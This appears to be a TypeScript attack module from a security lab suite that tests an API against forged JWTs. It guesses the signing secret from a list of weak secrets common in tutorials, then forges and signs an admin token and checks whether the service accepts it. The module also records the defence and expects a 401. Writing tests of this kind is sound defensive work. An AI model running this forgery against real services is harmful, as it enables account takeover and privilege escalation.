import { createHmac } from 'node:crypto'
import type { Attack } from '../lab/attack.js'

/** What tutorials sign with. */
const KNOWN = ['password', 'changeme', 'supersecret', 'your-256-bit-secret', 'secret', 'keyboard cat', 'jwt-secret', 'some-secret', 'shhhhh']

const part = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url')
const sign = (text: string, secret: string) => createHmac('sha256', secret).update(text).digest('base64url')

export default {
  title: "Sign an admin's token with a guessed secret",
  risk: 'API2',
  cwe: 1391,
  concern: 'tokens',
  story: 'A token is taken home, secrets of tutorials are tried on it, and one for the admin is signed with the secret that fits.',
  defence: 'Keys are derived from one master secret of 32 bytes or more; short and known ones stop boot.',
  refusal: { status: 401 },
  async run ({ step, ask, signIn, person }) {
    const mallory = await person()
    const [head = '', payload = '', signature] = mallory.token.split('.')
    step('The secrets of tutorials are tried on a token of her own')
    const secret = KNOWN.find(known => sign(`${head}.${payload}`, known) === signature) ?? KNOWN[0]!
    step("With the one that fits, or the first where none does, the admin's token is signed")
    const { id } = await signIn('admin')
    const claims = JSON.parse(Buffer.from(payload, 'base64url').toString())
    const text = `${part({ ...JSON.parse(Buffer.from(head, 'base64url').toString()) })}.${part({ ...claims, sub: id, role: 'admin' })}`
    const decisive = await ask('GET', '/users/me', { token: `${text}.${sign(text, secret)}` })
    const succeeded = decisive.status === 200 && decisive.body.username === 'admin'
    return { succeeded, decisive, evidence: succeeded ? `Signed with “${secret}”: the service greets the admin` : 'No known secret fits' }
  },
} satisfies Attack
